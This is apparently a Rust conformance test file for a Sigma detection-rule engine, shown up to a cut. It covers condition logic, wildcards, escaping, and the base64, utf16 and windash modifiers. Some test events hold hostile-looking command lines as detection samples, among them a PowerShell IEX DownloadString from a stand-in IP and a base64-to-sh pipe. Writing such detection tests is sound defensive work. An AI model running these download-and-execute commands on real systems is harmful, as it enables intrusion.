//! Conformance tests of the Sigma engine against the SigmaHQ specification v2.1, mostly with its own examples.

use std::collections::HashSet;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use rampart_model::Event;
use serde_json::{Value as Json, json};

use crate::error::{RuleError, RuleErrorKind};
use crate::mapping::FieldMapping;
use crate::ruleset::MAX_RULE_FILE_BYTES;
use crate::sigma::{CompiledRules, MAX_EXPANDED_BYTES, MAX_EXPANDED_VALUES, MatchedField, RuleFile, RuleMatch, Scratch, compile_rules};

/// The head of every test rule: `product: rampart, category: web` is routed to events whose
/// `event.category` holds `web`, which [`event`] adds.
const HEAD: &str = "title: Test rule\nid: test-rule\nlogsource: {product: rampart, category: web}\n";

/// Removes the common indentation of a snippet written inside the test, so it reads like YAML.
fn dedent(snippet: &str) -> Vec<String> {
    let lines: Vec<&str> = snippet.lines().skip_while(|line| line.trim().is_empty()).collect();
    let indent = lines.iter().filter(|line| !line.trim().is_empty()).map(|line| line.len() - line.trim_start().len()).min().unwrap_or(0);
    lines.iter().map(|line| line.get(indent..).unwrap_or("").trim_end().to_owned()).filter(|line| !line.is_empty()).collect()
}

/// A whole rule file around a detection snippet; the snippet's first line is line 5 of the file.
fn rule_text(detection: &str) -> String {
    let mut text = format!("{HEAD}detection:\n");
    for line in dedent(detection) {
        text.push_str("    ");
        text.push_str(&line);
        text.push('\n');
    }
    text
}

fn file(name: &str, text: &str) -> RuleFile {
    RuleFile { name: name.to_owned(), text: text.to_owned() }
}

fn compile(files: &[RuleFile]) -> CompiledRules {
    compile_rules(files, &FieldMapping::builtin(), &HashSet::new())
}

/// An event of the `web` route with these fields (dotted or nested keys).
fn event(fields: Json) -> Event {
    let mut fields = fields;
    let object = fields.as_object_mut().expect("events are objects");
    match object.get_mut("event").and_then(Json::as_object_mut) {
        Some(inner) => {
            inner.insert("category".to_owned(), json!(["web"]));
        }
        None => {
            object.insert("event.category".to_owned(), json!(["web"]));
        }
    }
    Event::from_json(fields).expect("a valid event")
}

fn evaluate(compiled: &CompiledRules, event: &Event) -> Vec<RuleMatch> {
    let mut matches = Vec::new();
    compiled.engine.evaluate(event, &mut Scratch::default(), &mut matches);
    matches
}

fn ids(matches: &[RuleMatch]) -> Vec<&str> {
    matches.iter().map(|m| m.rule.id.as_str()).collect()
}

/// Compiles one rule with this detection and checks each event against it.
fn check(detection: &str, cases: &[(Json, bool)]) {
    let text = rule_text(detection);
    let compiled = compile(&[file("test.yml", &text)]);
    assert!(compiled.errors.is_empty(), "{text}\n{:?}", compiled.errors.iter().map(ToString::to_string).collect::<Vec<_>>());
    // One scratch for every case, as a worker thread reuses it.
    let mut scratch = Scratch::default();
    for (index, (fields, expected)) in cases.iter().enumerate() {
        let mut matches = Vec::new();
        compiled.engine.evaluate(&event(fields.clone()), &mut scratch, &mut matches);
        assert_eq!(!matches.is_empty(), *expected, "case {index}: {fields}\n{text}");
    }
}

/// A rule every refusal test loads beside the bad one: it must still load and match.
const GOOD: &str = "title: Good rule\nid: good-rule\nlogsource: {product: rampart, category: web}\ndetection:\n    sel:\n        Name: good\n    condition: sel\n";

/// Compiles a bad file next to a good rule; returns the one error, after checking the good rule works.
fn refused_file(text: &str) -> RuleError {
    let compiled = compile(&[file("bad.yml", text), file("good.yml", GOOD)]);
    assert_eq!(compiled.errors.len(), 1, "{text}\n{:?}", compiled.errors);
    assert_eq!(compiled.rules.iter().map(|r| r.id.as_str()).collect::<Vec<_>>(), vec!["good-rule"], "{text}");
    assert_eq!(ids(&evaluate(&compiled, &event(json!({"Name": "good"})))), vec!["good-rule"]);
    let error = compiled.errors[0].clone();
    assert_eq!(error.file, "bad.yml");
    error
}

/// [`refused_file`] for a detection snippet.
fn refused(detection: &str) -> RuleError {
    refused_file(&rule_text(detection))
}

/// The message of an error, for `contains` checks.
fn message(error: &RuleError) -> String {
    error.kind.to_string()
}

// ---------------------------------------------------------------------------------------------
// Searches: maps, lists, keywords, special values.
// ---------------------------------------------------------------------------------------------

#[test]
fn maps_are_and_and_value_lists_are_or() {
    // The specification's example: EventLog 'Security' and (Event ID 517 or Event ID 1102).
    check(
        r"
        selection:
            EventLog: Security
            EventID:
                - 517
                - 1102
        condition: selection
        ",
        &[
            (json!({"EventLog": "Security", "EventID": 517}), true),
            (json!({"EventLog": "Security", "EventID": 1102}), true),
            (json!({"EventLog": "security", "EventID": "1102"}), true),
            (json!({"EventLog": "Security", "EventID": 4624}), false),
            (json!({"EventLog": "System", "EventID": 517}), false),
            (json!({"EventID": 517}), false),
        ],
    );
    // The second example: four fields, all of which must hold.
    check(
        r"
        selection:
            EventLog: Security
            EventID: 4769
            TicketOptions: '0x40810000'
            TicketEncryption: '0x17'
        condition: selection
        ",
        &[
            (json!({"EventLog": "Security", "EventID": 4769, "TicketOptions": "0x40810000", "TicketEncryption": "0x17"}), true),
            (json!({"EventLog": "Security", "EventID": 4769, "TicketOptions": "0x40810000", "TicketEncryption": "0x12"}), false),
            (json!({"EventLog": "Security", "EventID": 4769, "TicketOptions": "0x40810000"}), false),
        ],
    );
}

#[test]
fn a_list_of_maps_is_or() {
    check(
        r"
        selection:
            - Image|endswith: '\example.exe'
            - Description|contains: 'Test executable'
        condition: selection
        ",
        &[
            (json!({"Image": r"C:\Temp\example.exe"}), true),
            (json!({"Description": "A Test Executable for QA"}), true),
            (json!({"Image": r"C:\Temp\example.exe", "Description": "other"}), true),
            (json!({"Image": r"C:\Temp\example.exe.bak", "Description": "other"}), false),
            (json!({"Other": "Test executable"}), false),
        ],
    );
}

#[test]
fn keyword_lists_are_or_and_all_keywords_are_and() {
    check(
        r"
        keywords:
            - 'EVILSERVICE'
            - 'svchost.exe -n evil'
        condition: keywords
        ",
        &[
            (json!({"message": "started evilservice now"}), true),
            (json!({"message": "C:\\svchost.exe -n evil"}), true),
            (json!({"message": "svchost.exe -n good"}), false),
        ],
    );
    check(
        r"
        keywords_cmdlet:
            '|all':
                - 'OabVirtualDirectory'
                - ' -ExternalUrl '
        condition: keywords_cmdlet
        ",
        &[
            (json!({"message": "Set-OabVirtualDirectory -ExternalUrl 'http://x'"}), true),
            // The keywords may sit in different fields when there is no `event.original`.
            (json!({"a": "Set-OABVirtualDirectory", "b": "x -externalurl y"}), true),
            (json!({"message": "Set-OabVirtualDirectory -InternalUrl 'http://x'"}), false),
            (json!({"message": "Get-Thing -ExternalUrl 'http://x'"}), false),
        ],
    );
}

#[test]
fn keywords_search_event_original_and_else_every_string() {
    let cases = [
        // With the raw record, only it is searched.
        (json!({"event": {"original": "GET /download/mimikatz.exe HTTP/1.1"}}), true),
        (json!({"event": {"original": "GET /index.html HTTP/1.1"}, "url": {"original": "/mimikatz"}}), false),
        // Without it, every string value is.
        (json!({"url": {"original": "/tools/MIMIKATZ"}}), true),
        (json!({"deep": {"list": ["a", "x mimikatz y"]}}), true),
        // Numbers are not strings.
        (json!({"url": {"original": "/tools/"}, "n": 9_876_543_210_u64}), false),
        (json!({"url": {"original": "/tools/9876543210"}}), true),
    ];
    check(
        r"
        keywords:
            - 'mimikatz'
            - 9876543210
        condition: keywords
        ",
        &cases,
    );
}

#[test]
fn null_and_empty_values() {
    // The specification's example: PasswordLastSet null is a filter.
    check(
        r"
        selection:
            EventID: 4738
        filter:
            PasswordLastSet: null
        condition: selection and not filter
        ",
        &[
            (json!({"EventID": 4738, "PasswordLastSet": "2024-01-01"}), true),
            (json!({"EventID": 4738, "PasswordLastSet": null}), false),
            (json!({"EventID": 4738}), false),
            (json!({"EventID": 4738, "PasswordLastSet": ""}), true),
        ],
    );
    check(
        r"
        selection:
            Description: ''
        condition: selection
        ",
        &[
            (json!({"Description": ""}), true),
            (json!({"Description": " "}), false),
            (json!({"Description": "x"}), false),
            (json!({"Description": null}), false),
            (json!({}), false),
        ],
    );
}

#[test]
fn wildcards() {
    // The specification's examples: `prog?.exe` and `antivirus_V*.exe`.
    check(
        r"
        selection:
            Image:
                - 'prog?.exe'
                - 'antivirus_V*.exe'
        condition: selection
        ",
        &[
            (json!({"Image": "progA.exe"}), true),
            (json!({"Image": "PROGb.EXE"}), true),
            (json!({"Image": "prog.exe"}), false),
            (json!({"Image": "progAB.exe"}), false),
            (json!({"Image": "antivirus_V1.exe"}), true),
            (json!({"Image": "antivirus_V21.2.1.exe"}), true),
            (json!({"Image": "antivirus_V.exe"}), true),
            (json!({"Image": "antivirus_V1.exe.bak"}), false),
            (json!({"Image": "x antivirus_V1.exe"}), false),
        ],
    );
    check(
        r"
        selection:
            Anything: '*'
        condition: selection
        ",
        &[(json!({"Anything": "x"}), true), (json!({"Anything": ""}), true), (json!({"Anything": null}), false), (json!({}), false)],
    );
}

#[test]
fn the_escaping_table_of_the_specification() {
    // `\*` and `\?`: the characters themselves.
    check(
        r"
        selection:
            Path:
                - 'a\*b'
                - 'c\?d'
        condition: selection
        ",
        &[
            (json!({"Path": "a*b"}), true),
            (json!({"Path": "aXb"}), false),
            (json!({"Path": "ab"}), false),
            (json!({"Path": "c?d"}), true),
            (json!({"Path": "cXd"}), false),
        ],
    );
    // `\\*`: a backslash, then a wildcard.
    check(
        r"
        selection:
            Path: 'C:\\*'
        condition: selection
        ",
        &[
            (json!({"Path": "C:\\Windows\\System32"}), true),
            (json!({"Path": "C:\\"}), true),
            (json!({"Path": "C:Windows"}), false),
            (json!({"Path": "C:\\\\*"}), true),
        ],
    );
    // `\\\*`: a backslash and a star, both plain.
    check(
        r"
        selection:
            Path: 'C:\\\*'
        condition: selection
        ",
        &[(json!({"Path": "C:\\*"}), true), (json!({"Path": "C:\\Windows"}), false), (json!({"Path": "C:\\"}), false)],
    );
    // `\\\\`: two plain backslashes; a single backslash not before a wildcard is plain, and so is a doubled one.
    check(
        r"
        selection:
            Share: '\\\\server\share'
        condition: selection
        ",
        &[(json!({"Share": "\\\\server\\share"}), true), (json!({"Share": "\\server\\share"}), false)],
    );
    check(
        r"
        selection:
            - Image: 'C:\Windows\cmd.exe'
            - Image: 'C:\\Windows\\calc.exe'
        condition: selection
        ",
        &[
            (json!({"Image": "C:\\Windows\\cmd.exe"}), true),
            (json!({"Image": "C:\\Windows\\calc.exe"}), true),
            (json!({"Image": "C:\\\\Windows\\\\calc.exe"}), false),
        ],
    );
}

#[test]
fn matching_is_case_insensitive_by_default_also_beyond_ascii() {
    check(
        r"
        selection:
            - Name: 'ÄÖÜ'
            - Image|endswith: '\CMD.exe'
            - Title|contains: 'Ärger'
            - Town|startswith: 'éco'
        condition: selection
        ",
        &[
            (json!({"Name": "äöü"}), true),
            (json!({"Name": "ÄÖÜ"}), true),
            (json!({"Name": "äÖü"}), true),
            (json!({"Name": "AOU"}), false),
            (json!({"Name": "äöüx"}), false),
            (json!({"Image": "c:\\windows\\cmd.EXE"}), true),
            (json!({"Title": "viel ÄRGER heute"}), true),
            (json!({"Title": "viel Arger heute"}), false),
            (json!({"Town": "École de Paris"}), true),
            (json!({"Town": "Ecole"}), false),
        ],
    );
}

#[test]
fn numbers_match_numeric_and_string_fields() {
    check(
        r"
        selection:
            EventID: 4738
        condition: selection
        ",
        &[
            (json!({"EventID": 4738}), true),
            (json!({"EventID": "4738"}), true),
            (json!({"EventID": 4739}), false),
            (json!({"EventID": "04738"}), false),
            (json!({"EventID": [1, 4738]}), true),
            (json!({}), false),
        ],
    );
    check(
        r"
        selection:
            EventID: '4738'
            Enabled: true
        condition: selection
        ",
        &[
            (json!({"EventID": 4738, "Enabled": true}), true),
            (json!({"EventID": 4738, "Enabled": "True"}), true),
            (json!({"EventID": 4738, "Enabled": false}), false),
        ],
    );
}

// ---------------------------------------------------------------------------------------------
// The condition grammar.
// ---------------------------------------------------------------------------------------------

/// Three selections on fields A, B and C and an `_helper` on H, under a given condition.
fn check_condition(condition: &str, cases: &[(Json, bool)]) {
    let detection = format!("sel1:\n    A: 1\nsel2:\n    B: 2\nsel3:\n    C: 3\n_helper:\n    H: 4\ncondition: {condition}");
    check(&detection, cases);
}

fn abc(a: bool, b: bool, c: bool) -> Json {
    let mut fields = serde_json::Map::new();
    for (on, name, value) in [(a, "A", 1), (b, "B", 2), (c, "C", 3)] {
        if on {
            fields.insert(name.to_owned(), json!(value));
        }
    }
    Json::Object(fields)
}

#[test]
fn conditions_and_or_not_and_precedence() {
    let all = |f: &dyn Fn(bool, bool, bool) -> bool| -> Vec<(Json, bool)> {
        let mut cases = Vec::new();
        for bits in 0..8 {
            let (a, b, c) = (bits & 1 != 0, bits & 2 != 0, bits & 4 != 0);
            cases.push((abc(a, b, c), f(a, b, c)));
        }
        cases
    };
    check_condition("sel1 and sel2", &all(&|a, b, _| a && b));
    check_condition("sel1 or sel2", &all(&|a, b, _| a || b));
    check_condition("not sel1", &all(&|a, _, _| !a));
    // `and` binds tighter than `or`, `not` tighter than `and`.
    check_condition("sel1 or sel2 and sel3", &all(&|a, b, c| a || (b && c)));
    check_condition("sel1 and sel2 or sel3", &all(&|a, b, c| (a && b) || c));
    check_condition("(sel1 or sel2) and sel3", &all(&|a, b, c| (a || b) && c));
    check_condition("not sel1 and sel2", &all(&|a, b, _| !a && b));
    check_condition("not (sel1 and sel2)", &all(&|a, b, _| !(a && b)));
    check_condition("not sel1 or not sel2 and sel3", &all(&|a, b, c| !a || (!b && c)));
    check_condition("sel1 AND NOT sel2 Or sel3", &all(&|a, b, c| (a && !b) || c));
}

#[test]
fn x_of_patterns_and_them() {
    let cases = |f: &dyn Fn(bool, bool, bool, bool) -> bool| -> Vec<(Json, bool)> {
        let mut out = Vec::new();
        for bits in 0..16 {
            let (a, b, c, h) = (bits & 1 != 0, bits & 2 != 0, bits & 4 != 0, bits & 8 != 0);
            let mut fields = abc(a, b, c);
            if h {
                fields["H"] = json!(4);
            }
            out.push((fields, f(a, b, c, h)));
        }
        out
    };
    check_condition("1 of sel*", &cases(&|a, b, c, _| a || b || c));
    check_condition("any of sel*", &cases(&|a, b, c, _| a || b || c));
    check_condition("all of sel*", &cases(&|a, b, c, _| a && b && c));
    check_condition("2 of sel*", &cases(&|a, b, c, _| u8::from(a) + u8::from(b) + u8::from(c) >= 2));
    check_condition("3 of sel*", &cases(&|a, b, c, _| a && b && c));
    // `them` leaves out identifiers starting with `_`.
    check_condition("1 of them", &cases(&|a, b, c, _| a || b || c));
    check_condition("all of them", &cases(&|a, b, c, _| a && b && c));
    // A pattern may still name them.
    check_condition("1 of _*", &cases(&|_, _, _, h| h));
    check_condition("1 of sel* and not 1 of _*", &cases(&|a, b, c, h| (a || b || c) && !h));
    check_condition("all of sel1 or _helper", &cases(&|a, _, _, h| a || h));
}

#[test]
fn a_condition_list_is_or() {
    check(
        r"
        sel1:
            A: 1
        sel2:
            B: 2
        condition:
            - sel1
            - sel2
        ",
        &[(abc(true, false, false), true), (abc(false, true, false), true), (abc(false, false, true), false)],
    );
}

#[test]
fn condition_errors_are_refused() {
    let error = refused("sel1:\n    A: 1\ncondition: sel1 and selection");
    assert_eq!(error.line, Some(7));
    assert_eq!(message(&error), "the condition names `selection`, which is not a search identifier of the detection");
    assert!(matches!(error.kind, RuleErrorKind::Invalid(_)));
    // Identifiers are case-sensitive.
    let error = refused("sel1:\n    A: 1\ncondition: SEL1");
    assert!(message(&error).contains("`SEL1`"), "{error}");
    let error = refused("sel1:\n    A: 1\ncondition: 1 of filter*");
    assert_eq!(message(&error), "`of filter*` matches no search identifier");
    let error = refused("sel1:\n    A: 1\ncondition: sel1 and");
    assert!(message(&error).starts_with("condition `sel1 and`: expected a search identifier"), "{error}");
    let error = refused("sel1:\n    A: 1\ncondition: sel1 | count() > 5");
    assert!(message(&error).contains("write a Sigma correlation rule"), "{error}");
}

#[test]
fn deeply_nested_conditions_are_refused() {
    let condition = format!("{}sel1{}", "(".repeat(200), ")".repeat(200));
    let error = refused(&format!("sel1:\n    A: 1\ncondition: '{condition}'"));
    assert_eq!(error.line, Some(7));
    assert!(matches!(error.kind, RuleErrorKind::Invalid(_)));
    assert!(message(&error).contains("conditions may nest parentheses and `not` at most 64 deep"), "{error}");
    // 60 deep is fine.
    let condition = format!("{}sel1{}", "(".repeat(60), ")".repeat(60));
    check(&format!("sel1:\n    A: 1\ncondition: '{condition}'"), &[(abc(true, false, false), true), (abc(false, true, false), false)]);
}

// ---------------------------------------------------------------------------------------------
// Modifiers.
// ---------------------------------------------------------------------------------------------

#[test]
fn contains_startswith_endswith() {
    check(
        r"
        sel_c:
            CommandLine|contains: 'whoami'
        sel_s:
            Image|startswith: 'C:\Windows\'
        sel_e:
            Image|endswith: '\cmd.exe'
        condition: sel_c or (sel_s and sel_e)
        ",
        &[
            (json!({"CommandLine": "cmd /c WHOAMI /all"}), true),
            (json!({"CommandLine": "whoami"}), true),
            (json!({"CommandLine": "who ami"}), false),
            (json!({"Image": "C:\\Windows\\System32\\cmd.exe"}), true),
            (json!({"Image": "D:\\Windows\\System32\\cmd.exe"}), false),
            (json!({"Image": "C:\\Windows\\System32\\cmd.exe.bak"}), false),
            (json!({"Image": "x C:\\Windows\\cmd.exe"}), false),
        ],
    );
}

#[test]
fn wildcards_inside_modified_values_and_keywords() {
    check(
        r"
        sel_contains:
            CommandLine|contains: 'net*user'
        sel_start:
            # `\\?` is a backslash, then any one character (`\?` would be a plain `?`).
            Image|startswith: 'C:\Program Files\\?ool'
        keywords:
            - 'evil*tool'
        condition: 1 of sel_* or keywords
        ",
        &[
            (json!({"CommandLine": "cmd /c NET1 USER admin"}), true),
            (json!({"CommandLine": "user net"}), false),
            (json!({"Image": "C:\\Program Files\\Tool\\x.exe"}), true),
            (json!({"Image": "C:\\Program Files\\ool\\x.exe"}), false),
            (json!({"Image": "C:\\Program Files\\?ool\\x.exe"}), true),
            (json!({"Image": "C:\\Program Files?ool\\x.exe"}), false),
            (json!({"event": {"original": "an EVIL little tool"}}), true),
            (json!({"event": {"original": "a tool, not evil"}}), false),
        ],
    );
}

#[test]
fn all_ands_the_values_and_needs_two() {
    check(
        r"
        selection:
            CommandLine|contains|all:
                - ' -enc '
                - 'bypass'
        condition: selection
        ",
        &[
            (json!({"CommandLine": "powershell -exec bypass -enc AAAA "}), true),
            (json!({"CommandLine": "powershell -exec bypass"}), false),
            (json!({"CommandLine": "powershell -enc AAAA"}), false),
        ],
    );
    let error = refused("selection:\n    CommandLine|contains|all: 'bypass'\ncondition: selection");
    assert_eq!(error.line, Some(6));
    assert_eq!(message(&error), "`CommandLine|contains|all`: the `all` modifier needs a list of two or more values");
    let error = refused("selection:\n    CommandLine|contains|all: ['bypass']\ncondition: selection");
    assert_eq!(message(&error), "`CommandLine|contains|all`: the `all` modifier needs a list of two or more values");
}

#[test]
fn re_and_its_flags() {
    check(
        r"
        selection:
            CommandLine|re: 'foo\d+bar'
        condition: selection
        ",
        &[
            (json!({"CommandLine": "x foo12bar y"}), true),
            // Case-sensitive by default, unanchored.
            (json!({"CommandLine": "FOO12BAR"}), false),
            (json!({"CommandLine": "foobar"}), false),
        ],
    );
    check(
        r"
        selection:
            CommandLine|re|i: '^foo\d+bar$'
        condition: selection
        ",
        &[(json!({"CommandLine": "FOO12BAR"}), true), (json!({"CommandLine": "xFOO12BAR"}), false)],
    );
    check(
        r"
        selection:
            Message|re|m: '^bar$'
        condition: selection
        ",
        &[(json!({"Message": "foo\nbar\nbaz"}), true), (json!({"Message": "foo bar"}), false)],
    );
    check(
        r"
        selection:
            Message|re: '^foo.bar$'
        condition: selection
        ",
        &[(json!({"Message": "foo\nbar"}), false), (json!({"Message": "foo bar"}), true)],
    );
    check(
        r"
        selection:
            Message|re|s: '^foo.bar$'
        condition: selection
        ",
        &[(json!({"Message": "foo\nbar"}), true)],
    );
    // On keywords too.
    check(
        r"
        keywords:
            '|re': 'user=[0-9]+'
        condition: keywords
        ",
        &[(json!({"event": {"original": "login user=42 ok"}}), true), (json!({"event": {"original": "login user=bob"}}), false)],
    );
}

#[test]
fn regexes_that_need_backtracking_are_refused() {
    for (regex, line) in [("foo(?=bar)", 6), (r"(a)\1", 6), ("(?<!x)y", 6)] {
        let error = refused(&format!("selection:\n    CommandLine|re: '{regex}'\ncondition: selection"));
        assert_eq!(error.line, Some(line), "{regex}");
        let RuleErrorKind::Unsupported(text) = &error.kind else { panic!("{regex}: {error:?}") };
        assert!(text.contains("backtracking"), "{text}");
        assert!(text.contains(regex), "{text}");
    }
    let error = refused("selection:\n    CommandLine|re: 'a(b'\ncondition: selection");
    assert!(message(&error).contains("is invalid"), "{error}");
    let error = refused("selection:\n    CommandLine|i: 'ab'\ncondition: selection");
    assert_eq!(message(&error), "modifier `i` is a flag of `re` and must follow it");
}

#[test]
fn cidr_v4_and_v6() {
    check(
        r"
        selection:
            DestinationIp|cidr:
                - '10.0.0.0/8'
                - '192.168.1.1'
                - '2001:db8::/32'
        condition: selection
        ",
        &[
            (json!({"DestinationIp": "10.1.2.3"}), true),
            (json!({"DestinationIp": "11.0.0.1"}), false),
            (json!({"DestinationIp": "192.168.1.1"}), true),
            (json!({"DestinationIp": "192.168.1.2"}), false),
            (json!({"DestinationIp": "2001:db8::1"}), true),
            (json!({"DestinationIp": "2001:DB8:0:0:1::1"}), true),
            (json!({"DestinationIp": "2001:db9::1"}), false),
            (json!({"DestinationIp": "not an address"}), false),
            (json!({"DestinationIp": "10.1.2.3.4"}), false),
            (json!({"DestinationIp": 167_837_955}), false),
            (json!({"DestinationIp": ["8.8.8.8", "10.0.0.1"]}), true),
            (json!({}), false),
        ],
    );
    // A mapped field holding a parsed address (`c-ip` is `source.ip`).
    check(
        r"
        selection:
            c-ip|cidr: '203.0.113.0/24'
        condition: selection
        ",
        &[(json!({"source": {"ip": "203.0.113.9"}}), true), (json!({"source": {"ip": "198.51.100.9"}}), false)],
    );
    let error = refused("selection:\n    DestinationIp|cidr: '10.0.0.0/33'\ncondition: selection");
    assert_eq!(message(&error), "`DestinationIp|cidr`: `10.0.0.0/33` is not a CIDR network");
}

#[test]
fn base64_encodes_the_value() {
    // The specification's example: `/bin/bash` is `L2Jpbi9iYXNo`.
    assert_eq!(STANDARD.encode("/bin/bash"), "L2Jpbi9iYXNo");
    check(
        r"
        selection:
            - Payload|base64: '/bin/bash'
            - Body|base64|contains: '/bin/bash'
        condition: selection
        ",
        &[
            (json!({"Payload": "L2Jpbi9iYXNo"}), true),
            // Base64 is case-sensitive: lowercase is other bytes.
            (json!({"Payload": "l2jpbi9iyxno"}), false),
            (json!({"Payload": "/bin/bash"}), false),
            (json!({"Body": "echo L2Jpbi9iYXNo | base64 -d | sh"}), true),
            (json!({"Body": "echo L2JPBI9IYXNO | base64 -d | sh"}), false),
        ],
    );
    let error = refused("selection:\n    Payload|base64: '/bin/*'\ncondition: selection");
    assert!(message(&error).contains("wildcards"), "{error}");
}

/// Base64 blobs of `value` placed after 0 to 5 bytes of other data and followed by 0 to 2.
fn blobs(value: &[u8]) -> Vec<String> {
    let mut out = Vec::new();
    for before in 0..6 {
        for after in 0..3 {
            let mut bytes = b"#!/usr/bin/env ".get(..before).unwrap_or_default().to_vec();
            bytes.extend_from_slice(value);
            bytes.extend_from_slice(b"; x".get(..after).unwrap_or_default());
            out.push(STANDARD.encode(&bytes));
        }
    }
    out
}

#[test]
fn base64offset_finds_the_value_at_every_offset() {
    let detection = r"
        selection:
            Body|base64offset|contains: '/bin/bash'
        condition: selection
    ";
    let mut cases: Vec<(Json, bool)> =
        blobs(b"/bin/bash").into_iter().map(|blob| (json!({"Body": format!("x={blob}&y=1")}), true)).collect();
    cases.push((json!({"Body": STANDARD.encode("/bin/sh -c id")}), false));
    cases.push((json!({"Body": STANDARD.encode("/BIN/BASH")}), false));
    check(detection, &cases);
    // Each of pySigma's three variants is needed: the value at byte offset 0, 1 and 2.
    let variants = ["L2Jpbi9iYXNo", "9iaW4vYmFza", "vYmluL2Jhc2"];
    for (offset, variant) in variants.iter().enumerate() {
        let blob = STANDARD.encode([&b"ab"[..offset], b"/bin/bash"].concat());
        assert!(blob.contains(variant), "{blob} {variant}");
        for (other, other_variant) in variants.iter().enumerate() {
            assert_eq!(blob.contains(other_variant), other == offset, "{blob} {other_variant}");
        }
    }
}

fn utf16le(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

fn utf16be(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_be_bytes).collect()
}

#[test]
fn utf16_then_base64offset_finds_encoded_powershell() {
    // The classic case: `powershell -EncodedCommand <base64 of UTF-16LE>`.
    let script = |prefix: &str| format!("{prefix}IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')");
    let command = |bytes: Vec<u8>| json!({"CommandLine": format!("powershell.exe -NoP -EncodedCommand {}", STANDARD.encode(bytes))});
    for modifier in ["utf16le", "wide"] {
        let detection =
            format!("selection:\n    CommandLine|{modifier}|base64offset|contains: 'New-Object Net.WebClient'\ncondition: selection");
        let mut cases = Vec::new();
        for prefix in ["", "$", "$a", "$ab;", "$abc; ", "$abcd; "] {
            cases.push((command(utf16le(&script(prefix))), true));
            // The same script as UTF-8 is other bytes. (UTF-16BE is not: its bytes hold the
            // UTF-16LE form one byte further on.)
            cases.push((command(script(prefix).into_bytes()), false));
        }
        check(&detection, &cases);
    }
    let detection = "selection:\n    CommandLine|utf16be|base64offset|contains: 'New-Object'\ncondition: selection";
    let mut cases = Vec::new();
    for prefix in ["", "$", "$a"] {
        cases.push((command(utf16be(&script(prefix))), true));
        cases.push((command(script(prefix).into_bytes()), false));
    }
    check(detection, &cases);
    // `utf16` puts a byte order mark first, so it finds the value at the start of the text.
    let detection = "selection:\n    CommandLine|utf16|base64offset|contains: 'IEX (New-Object'\ncondition: selection";
    let with_bom = |text: &str| [&[0xFF, 0xFE][..], &utf16le(text)].concat();
    check(detection, &[(command(with_bom(&script(""))), true), (command(utf16le(&script(""))), false)]);
    // And plain base64 of UTF-16LE for a value that is the whole text.
    check(
        "selection:\n    Encoded|utf16le|base64: 'cmd'\ncondition: selection",
        &[(json!({"Encoded": STANDARD.encode(utf16le("cmd"))}), true), (json!({"Encoded": STANDARD.encode("cmd")}), false)],
    );
    let error = refused("selection:\n    CommandLine|utf16le|contains: 'cmd'\ncondition: selection");
    assert!(message(&error).contains("must be followed by base64"), "{error}");
}

#[test]
fn windash_accepts_every_dash() {
    check(
        r"
        selection:
            CommandLine|windash|contains:
                - ' -enc '
                - ' -param-name '
        condition: selection
        ",
        &[
            (json!({"CommandLine": "powershell -enc AAAA"}), true),
            (json!({"CommandLine": "powershell /enc AAAA"}), true),
            (json!({"CommandLine": "powershell \u{2013}enc AAAA"}), true),
            (json!({"CommandLine": "powershell \u{2014}enc AAAA"}), true),
            (json!({"CommandLine": "powershell \u{2015}ENC AAAA"}), true),
            (json!({"CommandLine": "powershell +enc AAAA"}), false),
            (json!({"CommandLine": "powershell enc AAAA"}), false),
            // Only a dash that starts a word is a flag dash.
            (json!({"CommandLine": "x /param-name y"}), true),
            (json!({"CommandLine": "x -param/name y"}), false),
        ],
    );
    // `_` is a word character, as in pySigma's `\B[-/]\b`.
    check(
        r"
        selection:
            - CommandLine|windash|contains: ' -_hidden'
            - Other|windash: 'a_-b'
        condition: selection
        ",
        &[
            (json!({"CommandLine": "tool /_hidden"}), true),
            (json!({"CommandLine": "tool \u{2014}_HIDDEN"}), true),
            (json!({"Other": "a_-b"}), true),
            (json!({"Other": "a_/b"}), false),
        ],
    );
}

#[test]
fn exists_checks_presence_only() {
    // The specification: "this check only verifies the presence of a field, not its value, be it empty or null".
    check(
        r"
        selection:
            EventID: 4738
            PasswordLastSet|exists: true
        condition: selection
        ",
        &[
            (json!({"EventID": 4738, "PasswordLastSet": "x"}), true),
            (json!({"EventID": 4738, "PasswordLastSet": ""}), true),
            (json!({"EventID": 4738, "PasswordLastSet": null}), true),
            (json!({"EventID": 4738}), false),
        ],
    );
    check(
        r"
        selection:
            PasswordLastSet|exists: false
        condition: selection
        ",
        &[(json!({"PasswordLastSet": "x"}), false), (json!({"PasswordLastSet": null}), false), (json!({"Other": 1}), true)],
    );
    let error = refused("selection:\n    PasswordLastSet|exists: 'yes'\ncondition: selection");
    assert_eq!(message(&error), "`PasswordLastSet|exists`: exists needs true or false");
}

#[test]
fn cased_matches_exact_case() {
    check(
        r"
        selection:
            - Name|cased: 'Admin'
            - Title|contains|cased: 'ÄRGER'
            - Path|startswith|cased: '/Root'
        condition: selection
        ",
        &[
            (json!({"Name": "Admin"}), true),
            (json!({"Name": "admin"}), false),
            (json!({"Name": "ADMIN"}), false),
            (json!({"Title": "viel ÄRGER"}), true),
            (json!({"Title": "viel ärger"}), false),
            (json!({"Title": "viel äRGER"}), false),
            (json!({"Path": "/Root/x"}), true),
            (json!({"Path": "/root/x"}), false),
        ],
    );
}

#[test]
fn neq_with_strings_and_numbers() {
    check(
        r"
        selection:
            Status|neq: 'ok'
        condition: selection
        ",
        &[
            (json!({"Status": "failed"}), true),
            (json!({"Status": "ok"}), false),
            (json!({"Status": "OK"}), false),
            // A missing field is not equal to the value.
            (json!({}), true),
        ],
    );
    check(
        r"
        selection:
            Present|exists: true
            EventID|neq:
                - 4738
                - 4740
        condition: selection
        ",
        &[
            (json!({"Present": 1, "EventID": 4624}), true),
            (json!({"Present": 1, "EventID": 4738}), false),
            (json!({"Present": 1, "EventID": "4740"}), false),
        ],
    );
}

#[test]
fn numeric_comparisons() {
    check(
        r"
        sel_gt:
            Size|gt: 100
        sel_gte:
            Count|gte: 10
        sel_lt:
            Ratio|lt: 1.5
        sel_lte:
            Score|lte: '-2'
        condition: 1 of sel_*
        ",
        &[
            (json!({"Size": 101}), true),
            (json!({"Size": 100}), false),
            (json!({"Size": 100.5}), true),
            (json!({"Size": "150"}), true),
            (json!({"Size": " 150 "}), true),
            (json!({"Size": "big"}), false),
            (json!({"Size": "inf"}), false),
